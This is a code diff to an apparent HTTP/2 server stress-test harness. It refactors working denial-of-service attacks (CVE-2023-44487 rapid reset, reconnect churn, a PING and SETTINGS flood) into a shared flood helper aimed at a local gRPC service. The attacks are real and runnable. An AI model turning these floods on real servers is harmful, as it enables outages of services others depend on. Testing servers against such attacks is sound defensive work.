@@ -241,12 +241,14 @@ class Attacker:
 
 # ---- the attacks: each runs for `seconds` and returns counts for the report ----
 
-def rapid_reset(port, seconds, request):
-    """CVE-2023-44487: open a stream and reset it at once, as fast as possible, 4 connections."""
-    counts = {"streams": 0, "connections": 0}
+def flood(port, seconds, burst, connections=1):
+    """Runs `burst` on a connection again and again until the server closes it, then on a new
+    one, until the time is up; `connections` at once. Returns the counts `burst` reports, the
+    connections made, and the GOAWAY codes received."""
+    counts = {"connections": 0}
     goaways = []
-    end = time.time() + seconds
     lock = threading.Lock()
+    end = time.time() + seconds
 
     def one():
         while time.time() < end:
@@ -255,29 +257,37 @@ def rapid_reset(port, seconds, request):
             except OSError:
                 time.sleep(0.05)
                 continue
-            with lock:
-                counts["connections"] += 1
             try:
                 while time.time() < end and not attacker.closed:
-                    for _ in range(50):
-                        sid = attacker.open_stream("/hash_name.HashFinder/Find",
-                                                   grpc_message(request))
-                        attacker.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
-                        with lock:
-                            counts["streams"] += 1
+                    done = burst(attacker)
                     attacker.flush()
                     attacker.pump()
+                    with lock:
+                        for key, value in done.items():
+                            counts[key] = counts.get(key, 0) + value
             except (OSError, h2.exceptions.ProtocolError):
                 pass
-            goaways.extend(attacker.goaway)
+            with lock:
+                counts["connections"] += 1
+                goaways.extend(attacker.goaway)
             attacker.close()
 
-    threads = [threading.Thread(target=one, daemon=True) for _ in range(4)]
+    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
     for t in threads:
         t.start()
     for t in threads:
         t.join()
     return counts, goaways
+
+
+def rapid_reset(port, seconds, request):
+    """CVE-2023-44487: open a stream and reset it at once, as fast as possible, 4 connections."""
+    def burst(attacker):
+        for _ in range(50):
+            sid = attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
+            attacker.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+        return {"streams": 50}
+    return flood(port, seconds, burst, connections=4)
 
 
 def unread_streams(port, seconds, request_range):
@@ -340,28 +350,13 @@ def window_starvation(port, seconds, request_range, server):
 
 def reconnect_churn(port, seconds, request):
     """4 attackers that connect, start a Find, and disconnect, as fast as they can."""
-    counts = {"connections": 0}
-    lock = threading.Lock()
-    end = time.time() + seconds
-
-    def one():
-        while time.time() < end:
-            try:
-                attacker = Attacker(port)
-                attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
-                attacker.flush()
-                attacker.close()
-            except OSError:
-                continue
-            with lock:
-                counts["connections"] += 1
-
-    threads = [threading.Thread(target=one, daemon=True) for _ in range(4)]
-    for t in threads:
-        t.start()
-    for t in threads:
-        t.join()
-    return counts, []
+    def burst(attacker):
+        attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
+        attacker.flush()
+        attacker.close()
+        attacker.closed = True
+        return {}
+    return flood(port, seconds, burst, connections=4)
 
 
 def unfinished_messages(port, seconds, _request):
@@ -445,26 +440,12 @@ def idle_connections(port, seconds, _request):
 
 def ping_and_settings_flood(port, seconds, _request):
     """PINGs and SETTINGS as fast as the connection takes them, reading the acknowledgements."""
-    counts = {"pings": 0, "settings": 0, "connections": 0}
-    goaways = []
-    end = time.time() + seconds
-    while time.time() < end:
-        attacker = Attacker(port)
-        counts["connections"] += 1
-        try:
-            while time.time() < end and not attacker.closed:
-                for i in range(100):
-                    attacker.conn.ping(i.to_bytes(8, "big"))
-                    attacker.conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096})
-                counts["pings"] += 100
-                counts["settings"] += 100
-                attacker.flush()
-                attacker.pump()
-        except (OSError, h2.exceptions.ProtocolError):
-            pass
-        goaways.extend(attacker.goaway)
-        attacker.close()
-    return counts, goaways
+    def burst(attacker):
+        for i in range(100):
+            attacker.conn.ping(i.to_bytes(8, "big"))
+            attacker.conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096})
+        return {"pings": 100, "settings": 100}
+    return flood(port, seconds, burst)
 
 
 ATTACKS = [
